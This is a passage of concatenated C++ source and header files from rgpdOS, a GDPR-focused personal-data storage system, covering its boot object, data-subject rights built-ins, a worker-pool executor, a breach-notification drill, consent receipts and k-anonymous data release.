  /// kInvalidArgument rather than silently misbooting).
  blockdev::BlockDevice* attach_dbfs_device = nullptr;
  /// Number of independent PD store shards (DESIGN.md §12). 1 (default)
  /// boots the classic single-store spine. N > 1 replicates the whole
  /// vertical stack N times — device, fault injector, latency model,
  /// block cache, journaled inode store (and, with split_sensitive, a
  /// sensitive sibling per shard) — behind a dbfs::ShardedDbfs facade
  /// routing subjects by `subject % N`. Each shard gets the full
  /// dbfs_blocks / inode_count / journal_blocks / cache_blocks budget.
  /// The env var RGPDOS_SHARDS overrides at runtime (ignored when
  /// attach_dbfs_device is set, so single-image boots keep working
  /// under a sharded CI matrix).
  std::size_t shards = 1;
};

class RgpdOs {
 public:
  static Result<std::unique_ptr<RgpdOs>> Boot(const BootConfig& config);
  /// Orderly teardown: stops the retention daemon, detaches + stops the
  /// audit pipeline (draining its queue to the store), then lets the
  /// members unwind.
  ~RgpdOs();

  // ---- components ------------------------------------------------------------
  /// The PD store: a single Dbfs (shards == 1) or the ShardedDbfs
  /// routing facade (shards > 1) — same contract either way.
  [[nodiscard]] dbfs::DbfsApi& dbfs() { return *dbfs_; }
  [[nodiscard]] ProcessingStore& ps() { return *ps_; }
  [[nodiscard]] ProcessingLog& processing_log() { return *log_; }
  [[nodiscard]] Builtins& builtins() { return *builtins_; }
  [[nodiscard]] Rights& rights() { return *rights_; }
  [[nodiscard]] Anonymizer& anonymizer() { return *anonymizer_; }
  [[nodiscard]] ReceiptIssuer& receipts() { return *receipts_; }
  [[nodiscard]] Authority& authority() { return *authority_; }
  /// Always non-null; the daemon inside is running iff retention was
  /// enabled (config or RGPDOS_RETENTION).
  [[nodiscard]] RetentionSweeper& retention() { return *retention_; }
  [[nodiscard]] sentinel::Sentinel& sentinel() { return *sentinel_; }
  [[nodiscard]] sentinel::AuditSink& audit() { return audit_; }
  /// Non-null iff booted with audit_durable (and RGPDOS_AUDIT_DURABLE
  /// didn't kill it) on an image that carries an audit manifest inode.
  [[nodiscard]] sentinel::DurableAuditPipeline* audit_pipeline() {
    return audit_pipeline_.get();
  }
  [[nodiscard]] inodefs::FileSystem& npd_fs() { return *npd_fs_; }
  /// Number of PD store shards this instance booted with (>= 1).
  [[nodiscard]] std::size_t shard_count() const { return pd_shards_.size(); }
  /// Shard `shard`'s journaled inode store (0 = the first/only shard,
  /// which also carries the processing log).
  [[nodiscard]] inodefs::InodeStore& dbfs_store(std::size_t shard = 0) {
    return *pd_shards_[shard].store;
  }
  /// Shard `shard`'s raw PD device, as the BlockDevice interface (it may
  /// be an owned MemBlockDevice or a caller-attached medium).
  [[nodiscard]] blockdev::BlockDevice& dbfs_device(std::size_t shard = 0) {
    return *pd_shards_[shard].raw;
  }
  /// Non-null iff booted with split_sensitive (per shard).
  [[nodiscard]] blockdev::BlockDevice* sensitive_device(
      std::size_t shard = 0) {
    return sensitive_shards_.empty() ? nullptr : sensitive_shards_[shard].raw;
  }
  /// Non-null iff booted with cache_blocks != 0.
  [[nodiscard]] blockdev::BlockCacheDevice* dbfs_cache(std::size_t shard = 0) {
    return pd_shards_[shard].cache.get();
  }
  [[nodiscard]] blockdev::BlockCacheDevice* sensitive_cache(
      std::size_t shard = 0) {
    return sensitive_shards_.empty() ? nullptr
                                     : sensitive_shards_[shard].cache.get();
  }
  /// Non-null iff booted with async_io (and ring_depth != 0).
  [[nodiscard]] blockdev::AsyncBlockDevice* dbfs_async(std::size_t shard = 0) {
    return pd_shards_[shard].async.get();
  }
  /// Non-null iff booted with a non-zero latency profile.
  [[nodiscard]] blockdev::LatencyModelDevice* dbfs_latency(
      std::size_t shard = 0) {
    return pd_shards_[shard].latency.get();
  }
  [[nodiscard]] blockdev::LatencyModelDevice* sensitive_latency(
      std::size_t shard = 0) {
    return sensitive_shards_.empty() ? nullptr
                                     : sensitive_shards_[shard].latency.get();
  }
  /// Non-null iff booted with fault injection (config or RGPDOS_FAULT_*).
  [[nodiscard]] blockdev::FaultInjectingBlockDevice* dbfs_fault(
      std::size_t shard = 0) {
    return pd_shards_[shard].fault.get();
  }
  [[nodiscard]] blockdev::FaultInjectingBlockDevice* sensitive_fault(
      std::size_t shard = 0) {
    return sensitive_shards_.empty() ? nullptr
                                     : sensitive_shards_[shard].fault.get();
  }
  [[nodiscard]] const Clock& clock() const { return *clock_; }
  /// Non-null iff booted with use_sim_clock.
  [[nodiscard]] SimClock* sim_clock() { return sim_clock_; }
  [[nodiscard]] crypto::SecureRandom& rng() { return rng_; }
  /// Non-null iff booted with worker_threads != 1.
  [[nodiscard]] DedExecutor* executor() { return executor_.get(); }

  // ---- sysadmin conveniences ---------------------------------------------------
  /// Parse a Listing-1 source and create every declared type; returns
  /// the number of types created. Purposes in the source are ignored
  /// here (register them with RegisterProcessingSource).
  Result<std::size_t> DeclareTypes(std::string_view dsl_source);
  /// Parse a purpose declaration and register a processing under it.
  Result<ProcessingId> RegisterProcessingSource(std::string_view dsl_source,
                                                ProcessingFn fn,
                                                ImplManifest manifest);

  // ---- subject-facing conveniences ----------------------------------------------
  Result<std::string> RightOfAccess(dbfs::SubjectId subject) {
    return rights_->Access(subject);
  }
  Result<std::size_t> RightToBeForgotten(dbfs::SubjectId subject) {
    return rights_->Forget(subject, authority_->public_key());
  }
  Result<std::string> RightToPortability(dbfs::SubjectId subject) {
    return rights_->Portability(subject);
  }
  /// Art. 21: object to / withdraw the objection against one purpose,
  /// across every record (and copy) of the subject.
  Result<std::size_t> RightToObject(dbfs::SubjectId subject,
                                    const std::string& purpose) {
    return rights_->Object(subject, purpose);
  }
  Result<std::size_t> WithdrawObjection(dbfs::SubjectId subject,
                                        const std::string& purpose) {
    return rights_->WithdrawObjection(subject, purpose);
  }
  /// Art. 22: opt the subject out of solely-automated decisions.
  Result<std::size_t> OptOutAutomatedDecisions(dbfs::SubjectId subject,
                                               bool opt_out = true) {
    return rights_->OptOutAutomatedDecisions(subject, opt_out);
  }
  /// Consent withdrawal with an Art. 7 receipt: revokes group-wide and
  /// hands back a signed receipt the subject can retain.
  Result<ConsentReceipt> RevokeConsentWithReceipt(const PdRef& ref,
                                                  const std::string& purpose);

 private:
  RgpdOs() : rng_(0) {}

  /// One shard's vertical storage stack — the composition unit the
  /// sharded spine replicates. Members are declared raw-device first and
  /// store last, so the implicit reverse-order destruction tears down
  /// store -> cache -> latency -> fault -> device (inner before outer,
  /// exactly the order the old singleton members guaranteed).
  struct StoreStack {
    std::unique_ptr<blockdev::MemBlockDevice> owned_device;  // null if attached
    blockdev::BlockDevice* raw = nullptr;  ///< owned_device or attached medium
    std::unique_ptr<blockdev::FaultInjectingBlockDevice> fault;
    std::unique_ptr<blockdev::LatencyModelDevice> latency;
    std::unique_ptr<blockdev::AsyncBlockDevice> async;
    std::unique_ptr<blockdev::BlockCacheDevice> cache;
    blockdev::BlockDevice* top = nullptr;  ///< outermost decorator
    std::unique_ptr<inodefs::InodeStore> store;
  };
  /// Build one shard's stack over `attached` (or a fresh MemBlockDevice
  /// of `blocks` when null), then Format — or Mount, replaying the
  /// journal, when `mount_existing` — the inode store on top.
  static Result<StoreStack> BuildStack(const BootConfig& config,
                                       blockdev::BlockDevice* attached,
                                       std::uint64_t blocks,
                                       metrics::LockRank lock_rank,
                                       const Clock* clock,
                                       bool mount_existing);

  std::unique_ptr<Clock> clock_;
  SimClock* sim_clock_ = nullptr;  // aliases clock_ when simulated
  crypto::SecureRandom rng_;

  sentinel::AuditSink audit_;
  std::unique_ptr<sentinel::Sentinel> sentinel_;

  // PD shard stacks (declared before dbfs_, which borrows the stores and
  // must be destroyed first). pd_shards_[i] and sensitive_shards_[i]
  // together back DBFS shard i; sensitive_shards_ is empty unless booted
  // with split_sensitive.
  std::vector<StoreStack> pd_shards_;
  std::vector<StoreStack> sensitive_shards_;
  std::unique_ptr<blockdev::MemBlockDevice> npd_device_;
  std::unique_ptr<inodefs::InodeStore> npd_store_;
  std::unique_ptr<inodefs::FileSystem> npd_fs_;
  std::unique_ptr<dbfs::DbfsApi> dbfs_;

  /// Declared after pd_shards_ so it is destroyed (writer stopped and
  /// drained) before the store it appends to; the explicit destructor
  /// detaches it from audit_ first.
  std::unique_ptr<sentinel::DurableAuditPipeline> audit_pipeline_;

  std::unique_ptr<ProcessingLog> log_;
  std::unique_ptr<DedExecutor> executor_;
  std::unique_ptr<ProcessingStore> ps_;
  std::unique_ptr<Builtins> builtins_;
  std::unique_ptr<Rights> rights_;
  std::unique_ptr<Anonymizer> anonymizer_;
  std::unique_ptr<ReceiptIssuer> receipts_;
  std::unique_ptr<Authority> authority_;
  /// Last member: destroyed first, which joins the sweep daemon before
  /// anything it borrows (dbfs, audit, log, authority) goes away.
  std::unique_ptr<RetentionSweeper> retention_;
};

}  // namespace rgpdos::core
