#include "core/builtins.hpp"

#include "crypto/envelope.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;
}

Status Builtins::Update(const PdRef& ref, const db::Row& row) {
  RGPD_RETURN_IF_ERROR(dbfs_->UpdateRow(kDed, ref.record_id, row));
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  log_->Append("builtin.update", "rectification", m.subject_id,
               ref.record_id, LogOutcome::kUpdated);
  return Status::Ok();
}

Result<PdRef> Builtins::Copy(const PdRef& ref) {
  RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord record,
                        dbfs_->Get(kDed, ref.record_id));
  if (record.erased) {
    return Erased("cannot copy an erased record");
  }
  // The copy keeps the source membrane verbatim — same copy group, so
  // future consent changes reach both.
  RGPD_ASSIGN_OR_RETURN(
      dbfs::RecordId copy_id,
      dbfs_->Put(kDed, record.subject_id, record.type_name, record.row,
                 record.membrane));
  log_->Append("builtin.copy", "copy", record.subject_id, copy_id,
               LogOutcome::kCopied,
               "source=" + std::to_string(ref.record_id));
  return PdRef{copy_id, record.type_name};
}

Status Builtins::EraseWithHold(const PdRef& ref,
                               const crypto::RsaPublicKey& authority_key) {
  RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord record,
                        dbfs_->Get(kDed, ref.record_id));
  if (record.erased) {
    return Erased("record already erased");
  }
  // Seal the encoded row to the authority.
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                        dbfs_->GetType(kDed, record.type_name));
  const Bytes plaintext = type->ToSchema().EncodeRow(record.row);
  RGPD_ASSIGN_OR_RETURN(crypto::Envelope envelope,
                        crypto::Seal(authority_key, plaintext, *rng_));
  RGPD_RETURN_IF_ERROR(dbfs_->ReplaceWithEnvelope(kDed, ref.record_id,
                                                  envelope.Serialize()));
  log_->Append("builtin.delete", "right_to_be_forgotten",
               record.subject_id, ref.record_id, LogOutcome::kErased,
               "crypto-hold");
  return Status::Ok();
}

Status Builtins::HardDelete(const PdRef& ref) {
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  RGPD_RETURN_IF_ERROR(dbfs_->HardDelete(kDed, ref.record_id));
  log_->Append("builtin.delete", "right_to_be_forgotten", m.subject_id,
               ref.record_id, LogOutcome::kErased, "hard-delete");
  return Status::Ok();
}

Status Builtins::PropagateConsent(
    const PdRef& ref,
    const std::function<void(membrane::Membrane&)>& mutate) {
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane source,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> group,
                        dbfs_->CopyGroupMembers(kDed, source.copy_group));
  for (dbfs::RecordId id : group) {
    RGPD_ASSIGN_OR_RETURN(membrane::Membrane m, dbfs_->GetMembrane(kDed, id));
    mutate(m);
    RGPD_RETURN_IF_ERROR(dbfs_->UpdateMembrane(kDed, id, m));
  }
  return Status::Ok();
}

Status Builtins::GrantConsent(const PdRef& ref, const std::string& purpose,
                              membrane::Consent consent) {
  return PropagateConsent(ref, [&](membrane::Membrane& m) {
    m.GrantConsent(purpose, consent);
  });
}

Status Builtins::RevokeConsent(const PdRef& ref,
                               const std::string& purpose) {
  return PropagateConsent(ref, [&](membrane::Membrane& m) {
    m.RevokeConsent(purpose);
  });
}

Status Builtins::Restrict(const PdRef& ref, const std::string& reason) {
  RGPD_RETURN_IF_ERROR(PropagateConsent(
      ref, [&](membrane::Membrane& m) { m.Restrict(reason); }));
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  log_->Append("builtin.restrict", "restriction_of_processing",
               m.subject_id, ref.record_id, LogOutcome::kRestricted,
               reason);
  return Status::Ok();
}

Status Builtins::LiftRestriction(const PdRef& ref) {
  RGPD_RETURN_IF_ERROR(PropagateConsent(
      ref, [&](membrane::Membrane& m) { m.LiftRestriction(); }));
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  log_->Append("builtin.restrict", "restriction_of_processing",
               m.subject_id, ref.record_id, LogOutcome::kRestricted,
               "lifted");
  return Status::Ok();
}

Status Builtins::Object(const PdRef& ref, const std::string& purpose) {
  RGPD_RETURN_IF_ERROR(PropagateConsent(
      ref, [&](membrane::Membrane& m) { m.Object(purpose); }));
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  log_->Append("builtin.object", purpose, m.subject_id, ref.record_id,
               LogOutcome::kObjected, "objection");
  return Status::Ok();
}

Status Builtins::WithdrawObjection(const PdRef& ref,
                                   const std::string& purpose) {
  RGPD_RETURN_IF_ERROR(PropagateConsent(
      ref, [&](membrane::Membrane& m) { m.WithdrawObjection(purpose); }));
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  log_->Append("builtin.object", purpose, m.subject_id, ref.record_id,
               LogOutcome::kObjected, "objection withdrawn");
  return Status::Ok();
}

Status Builtins::SetAutomatedDecisionOptOut(const PdRef& ref, bool opt_out) {
  RGPD_RETURN_IF_ERROR(PropagateConsent(
      ref,
      [&](membrane::Membrane& m) { m.SetNoAutomatedDecision(opt_out); }));
  RGPD_ASSIGN_OR_RETURN(membrane::Membrane m,
                        dbfs_->GetMembrane(kDed, ref.record_id));
  log_->Append("builtin.object", "automated_decision", m.subject_id,
               ref.record_id, LogOutcome::kObjected,
               opt_out ? "opt-out" : "opt-in");
  return Status::Ok();
}

Result<std::size_t> Builtins::ScavengeExpired(
    const crypto::RsaPublicKey& authority_key) {
  const TimeMicros now = clock_->Now();
  std::size_t scavenged = 0;
  for (const std::string& type : dbfs_->TypeNames()) {
    RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> records,
                          dbfs_->RecordsOfType(kDed, type));
    for (dbfs::RecordId id : records) {
      RGPD_ASSIGN_OR_RETURN(membrane::Membrane m, dbfs_->GetMembrane(kDed, id));
      if (!m.ExpiredAt(now)) continue;
      RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord record, dbfs_->Get(kDed, id));
      if (record.erased) continue;  // already sealed
      RGPD_RETURN_IF_ERROR(EraseWithHold(PdRef{id, type}, authority_key));
      ++scavenged;
    }
  }
  return scavenged;
}

}  // namespace rgpdos::core
