// rgpdOS built-in functions — the F_pd^w category. "F_pd^w functions are
// natively provided by rgpdOS … Among built-in functions, we can list
// update, delete, copy and acquisition" (paper §2). Acquisition lives in
// ProcessingStore (collection); this module provides update, copy, the
// two deletion flavours, and membrane-consistency propagation for copies
// and consent changes.
#pragma once

#include "core/pdref.hpp"
#include "core/processing_log.hpp"
#include "crypto/rsa.hpp"
#include "dbfs/dbfs.hpp"

namespace rgpdos::core {

class Builtins {
 public:
  Builtins(dbfs::DbfsApi* dbfs, ProcessingLog* log, const Clock* clock,
           crypto::SecureRandom* rng)
      : dbfs_(dbfs), log_(log), clock_(clock), rng_(rng) {}

  /// update: replace a record's row (schema-checked, scrubbed rewrite).
  Status Update(const PdRef& ref, const db::Row& row);

  /// copy: duplicate a record. The copy shares the source's copy group so
  /// "rgpdOS must ensure membrane consistency across all copies of the
  /// same PD" — consent changes propagate group-wide.
  Result<PdRef> Copy(const PdRef& ref);

  /// delete (crypto-hold flavour, paper §4): seal the record to the
  /// authority's public key, destroy plaintext + journal history. The
  /// operator can no longer read it; the authority can.
  Status EraseWithHold(const PdRef& ref,
                       const crypto::RsaPublicKey& authority_key);

  /// delete (unconditional flavour): physical scrubbed destruction.
  Status HardDelete(const PdRef& ref);

  /// Consent management with copy-group propagation: updating consent on
  /// any copy updates every membrane in the group.
  Status GrantConsent(const PdRef& ref, const std::string& purpose,
                      membrane::Consent consent);
  Status RevokeConsent(const PdRef& ref, const std::string& purpose);

  /// Art. 18 restriction of processing: keep the PD, freeze every
  /// purpose. Propagates across the copy group, like consent changes.
  Status Restrict(const PdRef& ref, const std::string& reason);
  Status LiftRestriction(const PdRef& ref);

  /// Art. 21 objection: block one purpose on this PD (and every copy in
  /// its group) until the objection is withdrawn. Unlike RevokeConsent,
  /// a later GrantConsent does not override it.
  Status Object(const PdRef& ref, const std::string& purpose);
  Status WithdrawObjection(const PdRef& ref, const std::string& purpose);

  /// Art. 22: set / clear the subject's opt-out from solely-automated
  /// decisions on this PD's copy group.
  Status SetAutomatedDecisionOptOut(const PdRef& ref, bool opt_out);

  /// TTL scavenger: enforce the membranes' `age:` clauses proactively.
  /// Scans every live record; records past their time-to-live are
  /// crypto-erased under the authority key (storage-limitation principle
  /// — expired PD must not merely be unreadable, it must be gone).
  /// Returns the number of records scavenged.
  Result<std::size_t> ScavengeExpired(
      const crypto::RsaPublicKey& authority_key);

 private:
  Status PropagateConsent(const PdRef& ref,
                          const std::function<void(membrane::Membrane&)>&
                              mutate);

  dbfs::DbfsApi* dbfs_;            // borrowed
  ProcessingLog* log_;          // borrowed
  const Clock* clock_;          // borrowed
  crypto::SecureRandom* rng_;   // borrowed
};

}  // namespace rgpdos::core
