#include "core/executor.hpp"

#include "common/rng.hpp"
#include "metrics/metrics.hpp"

namespace rgpdos::core {

DedExecutor::DedExecutor(unsigned workers, std::uint64_t boot_seed)
    : boot_seed_(boot_seed) {
  threads_.reserve(workers);
  for (unsigned i = 0; i < workers; ++i) {
    threads_.emplace_back([this, i] { WorkerLoop(i); });
  }
}

DedExecutor::~DedExecutor() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    stop_ = true;
  }
  cv_.notify_all();
  for (std::thread& t : threads_) t.join();
}

std::size_t DedExecutor::Drain(Job& job) {
  std::size_t ran = 0;
  for (;;) {
    const std::size_t shard =
        job.next.fetch_add(1, std::memory_order_relaxed);
    if (shard >= job.shards) break;
    (*job.fn)(shard);
    ++ran;
    if (job.done.fetch_add(1, std::memory_order_acq_rel) + 1 ==
        job.shards) {
      std::lock_guard<std::mutex> lock(job.done_mu);
      job.done_cv.notify_all();
    }
  }
  return ran;
}

void DedExecutor::WorkerLoop(unsigned index) {
  // Stream 0 belongs to the boot thread; workers take 1..N.
  SeedThreadRng(boot_seed_, index + 1);
  for (;;) {
    std::shared_ptr<Job> job;
    {
      std::unique_lock<std::mutex> lock(mu_);
      cv_.wait(lock, [this] { return stop_ || !queue_.empty(); });
      if (queue_.empty()) {
        if (stop_) return;
        continue;
      }
      job = queue_.front();
      // Leave exhausted jobs behind; the peek below keeps other workers
      // off them.
      if (job->next.load(std::memory_order_relaxed) >= job->shards) {
        queue_.pop_front();
        continue;
      }
    }
    const std::size_t ran = Drain(*job);
    if (ran > 0) {
      RGPD_METRIC_COUNT_N("executor.shards_run", ran);
    }
  }
}

void DedExecutor::ParallelFor(std::size_t shards,
                              const std::function<void(std::size_t)>& fn) {
  if (shards == 0) return;
  if (shards == 1 || threads_.empty()) {
    // No handoff worth paying for: run inline.
    for (std::size_t i = 0; i < shards; ++i) fn(i);
    return;
  }
  auto job = std::make_shared<Job>();
  job->shards = shards;
  job->fn = &fn;
  {
    std::lock_guard<std::mutex> lock(mu_);
    queue_.push_back(job);
  }
  cv_.notify_all();
  // Caller lane: claim shards alongside the pool, then wait for
  // stragglers still executing their last shard.
  Drain(*job);
  std::unique_lock<std::mutex> lock(job->done_mu);
  job->done_cv.wait(lock, [&] {
    return job->done.load(std::memory_order_acquire) >= job->shards;
  });
}

}  // namespace rgpdos::core
