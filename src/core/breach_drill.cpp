#include "core/breach_drill.hpp"

#include "common/json.hpp"

namespace rgpdos::core {

namespace {

/// Did PD actually flow through this entry? Filtered / aborted /
/// restricted / objected outcomes are the enforcement WORKING — the
/// purpose never saw the data; erasures destroy rather than expose.
bool PdFlowed(LogOutcome outcome) {
  switch (outcome) {
    case LogOutcome::kProcessed:
    case LogOutcome::kCollected:
    case LogOutcome::kUpdated:
    case LogOutcome::kCopied:
    case LogOutcome::kExported:
      return true;
    case LogOutcome::kFiltered:
    case LogOutcome::kErased:
    case LogOutcome::kAborted:
    case LogOutcome::kRestricted:
    case LogOutcome::kObjected:
      return false;
  }
  return false;
}

std::string DraftNotification(const BreachDrillReport& report) {
  std::string out = "Art.33 draft: purpose '" + report.purpose +
                    "' is considered compromised. The processing log "
                    "attributes PD of ";
  out += std::to_string(report.subjects.size());
  out += " data subject(s) to it across ";
  out += std::to_string(report.pd_touches);
  out += " processing event(s)";
  if (report.pd_touches > 0) {
    out += " between t=" + std::to_string(report.first_touch) +
           "us and t=" + std::to_string(report.last_touch) + "us";
  }
  out += ". Evidence: ";
  out += report.chain_verified ? "hash chain verified"
                               : "HASH CHAIN NOT VERIFIED";
  out += ". Notify the supervisory authority within 72h and each listed "
         "subject without undue delay (Art. 34).";
  return out;
}

}  // namespace

std::string BreachDrillReport::ToJson() const {
  std::string out = "{\"purpose\":\"" + JsonEscape(purpose) + "\"";
  out += ",\"subjects\":[";
  bool first = true;
  for (const dbfs::SubjectId subject : subjects) {
    if (!first) out += ',';
    first = false;
    out += std::to_string(subject);
  }
  out += "],\"entries_scanned\":" + std::to_string(entries_scanned);
  out += ",\"pd_touches\":" + std::to_string(pd_touches);
  out += ",\"first_touch\":" + std::to_string(first_touch);
  out += ",\"last_touch\":" + std::to_string(last_touch);
  out += ",\"chain_verified\":";
  out += chain_verified ? "true" : "false";
  out += ",\"notification\":\"" + JsonEscape(notification) + "\"}";
  return out;
}

Result<BreachDrillReport> DrillCompromisedPurpose(
    const ProcessingLog& log, const std::string& purpose) {
  BreachDrillReport report;
  report.purpose = purpose;
  // Tamper-evidence first: a notification drafted from a log whose
  // chain does not verify would launder the tampering into an official
  // document. Hot window and durable segments are separate chains.
  if (!log.VerifyChain()) {
    return Corruption("breach drill: processing log hash chain broken");
  }
  RGPD_RETURN_IF_ERROR(log.VerifyDurableChain());
  report.chain_verified = true;
  RGPD_RETURN_IF_ERROR(log.ForEach([&](const LogEntry& entry) {
    ++report.entries_scanned;
    if (entry.purpose != purpose || !PdFlowed(entry.outcome)) return;
    ++report.pd_touches;
    report.subjects.insert(entry.subject_id);
    if (report.pd_touches == 1 || entry.at < report.first_touch) {
      report.first_touch = entry.at;
    }
    if (entry.at > report.last_touch) report.last_touch = entry.at;
  }));
  report.notification = DraftNotification(report);
  return report;
}

}  // namespace rgpdos::core
