// Consent receipts — Art. 7(1): "the controller shall be able to
// demonstrate that the data subject has consented".
//
// Every consent-state change (grant, revoke, restrict, lift) can be
// turned into a signed receipt: the subject keeps it, and later either
// side can prove what was agreed and when. Receipts are HMAC-signed with
// the operator's receipt key; tampering with any field breaks
// verification. The membrane version number ties the receipt to a
// precise point in the membrane's history.
#pragma once

#include <string>

#include "common/clock.hpp"
#include "crypto/hmac.hpp"
#include "dbfs/dbfs.hpp"

namespace rgpdos::core {

struct ConsentReceipt {
  std::uint64_t subject_id = 0;
  dbfs::RecordId record_id = 0;
  std::string purpose;
  std::string action;  ///< "grant" | "revoke" | "restrict" | "lift"
  std::string scope;   ///< consent scope after the action ("all", view...)
  TimeMicros issued_at = 0;
  std::uint64_t membrane_version = 0;
  crypto::Sha256Digest signature{};

  [[nodiscard]] Bytes Serialize() const;
  static Result<ConsentReceipt> Deserialize(ByteSpan bytes);
};

class ReceiptIssuer {
 public:
  /// `operator_key` is the controller's receipt-signing secret.
  ReceiptIssuer(Bytes operator_key, const Clock* clock)
      : key_(std::move(operator_key)), clock_(clock) {}

  [[nodiscard]] ConsentReceipt Issue(std::uint64_t subject,
                                     dbfs::RecordId record,
                                     std::string purpose, std::string action,
                                     std::string scope,
                                     std::uint64_t membrane_version) const;

  /// True iff the signature matches every field.
  [[nodiscard]] bool Verify(const ConsentReceipt& receipt) const;

 private:
  [[nodiscard]] crypto::Sha256Digest Sign(
      const ConsentReceipt& receipt) const;

  Bytes key_;
  const Clock* clock_;  // borrowed
};

}  // namespace rgpdos::core
