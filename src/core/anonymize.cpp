#include "core/anonymize.hpp"

#include <algorithm>

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

Result<std::string> GeneralizeField(const db::Value& value,
                                    const FieldRule& rule) {
  switch (rule.kind) {
    case FieldRule::Kind::kBucket: {
      RGPD_ASSIGN_OR_RETURN(std::int64_t v, value.AsInt());
      if (rule.bucket <= 0) return InvalidArgument("bucket must be > 0");
      // Floor division towards -inf so negative values bucket sanely.
      std::int64_t bucket = v / rule.bucket;
      if (v < 0 && v % rule.bucket != 0) --bucket;
      const std::int64_t lo = bucket * rule.bucket;
      return std::to_string(lo) + ".." +
             std::to_string(lo + rule.bucket - 1);
    }
    case FieldRule::Kind::kPrefix: {
      RGPD_ASSIGN_OR_RETURN(std::string s, value.AsString());
      if (s.size() > rule.prefix_len) {
        s.resize(rule.prefix_len);
        s += "*";
      }
      return s;
    }
    case FieldRule::Kind::kKeep:
      return value.ToDisplayString();
  }
  return Internal("unreachable");
}
}  // namespace

Result<AnonymizationResult> Anonymizer::Release(
    std::string_view type_name, const AnonymizationSpec& spec,
    inodefs::FileSystem* npd_fs, std::string_view npd_path) {
  if (spec.rules.empty()) {
    return InvalidArgument("anonymization spec releases no fields");
  }
  if (spec.k < 2) {
    return InvalidArgument("k must be at least 2 (k=1 is identification)");
  }
  RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                        dbfs_->GetType(kDed, type_name));
  const db::Schema schema = type->ToSchema();
  for (const auto& [field, rule] : spec.rules) {
    if (!schema.HasField(field)) {
      return InvalidArgument("no field '" + field + "' in type '" +
                             std::string(type_name) + "'");
    }
  }

  // Output columns follow the schema's field order, not rule-map order.
  std::vector<std::pair<std::size_t, FieldRule>> columns;
  for (std::size_t i = 0; i < schema.field_count(); ++i) {
    const auto rule = spec.rules.find(schema.fields()[i].name);
    if (rule != spec.rules.end()) columns.emplace_back(i, rule->second);
  }

  RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> ids,
                        dbfs_->RecordsOfType(kDed, type_name));
  AnonymizationResult result;
  const TimeMicros now = clock_->Now();

  // Generalised tuple -> contributing (record, subject) pairs.
  std::map<std::string,
           std::vector<std::pair<dbfs::RecordId, dbfs::SubjectId>>>
      groups;
  for (dbfs::RecordId id : ids) {
    RGPD_ASSIGN_OR_RETURN(dbfs::PdRecord record, dbfs_->Get(kDed, id));
    if (record.erased || record.membrane.ExpiredAt(now)) continue;
    ++result.source_records;
    std::string tuple;
    for (const auto& [index, rule] : columns) {
      RGPD_ASSIGN_OR_RETURN(std::string cell,
                            GeneralizeField(record.row[index], rule));
      if (!tuple.empty()) tuple += ',';
      tuple += cell;
    }
    groups[tuple].emplace_back(id, record.subject_id);
  }

  // k-anonymity release: suppressed groups never reach the output, and
  // their records are NOT logged as released.
  std::string csv;
  for (const auto& [index, rule] : columns) {
    if (!csv.empty()) csv += ',';
    csv += schema.fields()[index].name;
  }
  csv += ",count\n";
  for (const auto& [tuple, members] : groups) {
    if (members.size() < spec.k) {
      ++result.suppressed_groups;
      result.suppressed_records += members.size();
      continue;
    }
    ++result.released_groups;
    csv += tuple + "," + std::to_string(members.size()) + "\n";
    for (const auto& [record, subject] : members) {
      log_->Append("builtin.anonymize", "anonymized_release", subject,
                   record, LogOutcome::kProcessed,
                   "released in a group of " +
                       std::to_string(members.size()));
    }
  }

  RGPD_RETURN_IF_ERROR(npd_fs->WriteFile(npd_path, ToBytes(csv)));
  return result;
}

}  // namespace rgpdos::core
