// DedExecutor — the DED's worker pool for parallel pipeline execution.
//
// The paper's DED is "the only component able to access DBFS directly";
// making it parallel means one ps_invoke fans its per-record work
// (membrane filter, load, execute) over shards while N application
// threads invoke concurrently. The pool is sized from the kernel's CPU
// partition (kernel::CpuPartition::Plan) so DED workers and NPD threads
// share the machine deliberately rather than by oversubscription.
//
// Scheduling model: ParallelFor(shards, fn) publishes one job; the
// calling thread immediately starts claiming shards itself (shard 0
// first — a 1-shard job never pays a handoff) and helps drain the job
// until every shard is done, so a pool of W workers gives W+1 lanes and
// the executor is usable even with zero workers (pure inline
// execution). Shards are claimed by atomic increment; `fn` runs with NO
// executor lock held, so it may take any rank in the stack-wide lock
// order (metrics/lock.hpp).
//
// Worker identity: each pool thread seeds its thread-local RNG stream
// from the boot seed and its worker index (common/rng.hpp), so a
// parallel run draws from disjoint deterministic streams instead of
// racing on one generator.
//
// `fn` must not throw — like the rest of the stack it reports failures
// through Status values captured by the caller (see Ded::RunShard).
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

namespace rgpdos::core {

/// Minimal MPMC bounded queue for stage pipelining (the DED's
/// load -> execute hand-off): Push blocks while the queue is full — that
/// is the backpressure bound, the producing stage stalls instead of
/// buffering unboundedly — Pop blocks while it is empty, and Close wakes
/// everyone: further Pushes are refused and Pops drain the remaining
/// items before returning false. The mutex is a leaf: never held across
/// user code.
